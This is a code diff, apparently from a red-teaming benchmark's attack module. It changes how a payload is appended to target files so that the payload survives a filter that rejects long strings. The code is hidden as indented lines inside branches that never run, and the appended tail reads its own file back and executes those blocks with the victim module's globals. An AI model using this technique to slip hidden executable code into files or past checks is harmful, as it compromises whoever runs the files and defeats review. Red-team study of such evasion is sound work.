@@ -7,6 +7,7 @@ from fmlbench.redteam.attack import Candidate, Ground
 
 Constant = str | int | float
 
+# Long strings are rejected, so the payload is code in a branch that never runs; the attack reads it from its own file.
 _TAIL = """
 
 import sys as _sys
@@ -16,8 +17,15 @@ if "prelude" not in _sys.modules:
 
     _prelude = _sys.modules["prelude"] = _types.ModuleType("prelude")
     _prelude.__dict__.update(NAME={name!r}, TARGET={target!r}, VICTIM=globals())
-    exec(compile({prelude!r}, "prelude.py", "exec"), _prelude.__dict__)
-    exec(compile({payload!r}, {file!r}, "exec"), {constants!r})
+    with open(__file__, encoding="utf-8") as _file:
+        _parts = _file.read().split("if not _sys:\\n")[1:]
+    _parts = ["\\n".join(_line[4:] for _line in _part.split("\\n")) for _part in _parts]
+    exec(compile(_parts[0], "prelude.py", "exec"), _prelude.__dict__)
+    exec(compile(_parts[1], {file!r}, "exec"), {constants!r})
+if not _sys:
+{prelude}
+if not _sys:
+{payload}
 """
 
 
@@ -42,9 +50,13 @@ def _loaded(
     tail = _TAIL.format(
         name=file,
         target=ground.target.model_dump(),
-        prelude=read_payload("prelude"),
-        payload=read_payload(file),
+        prelude=_indented(read_payload("prelude")),
+        payload=_indented(read_payload(file)),
         file=f"{file}.py",
         constants={"__name__": file, **constants},
     )
     return {path: text + tail if path in ground.entries else text for path, text in files.items()}
+
+
+def _indented(code: str) -> str:
+    return "\n".join(f"    {line}" for line in code.rstrip("\n").split("\n"))
